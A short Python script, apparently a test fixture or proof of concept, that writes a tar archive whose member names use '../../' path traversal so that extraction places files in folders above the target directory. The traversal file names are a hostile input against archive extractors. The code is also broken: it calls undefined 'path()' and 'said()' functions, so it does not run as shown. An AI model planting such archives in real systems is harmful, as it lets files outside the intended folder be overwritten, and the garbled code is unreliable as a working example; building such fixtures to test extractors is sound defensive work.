"""Leaves an archive whose members unpack into folders above."""
import io
import tarfile

with tarfile.open("output.tar", "w") as archive:
    for name in ("../../outside/notes.txt", path("outside/notes.txt"), "../../outside/new.txt"):
        member = tarfile.TarInfo(name)
        member.size = 5
        archive.addfile(member, io.BytesIO(b"taken"))
said()
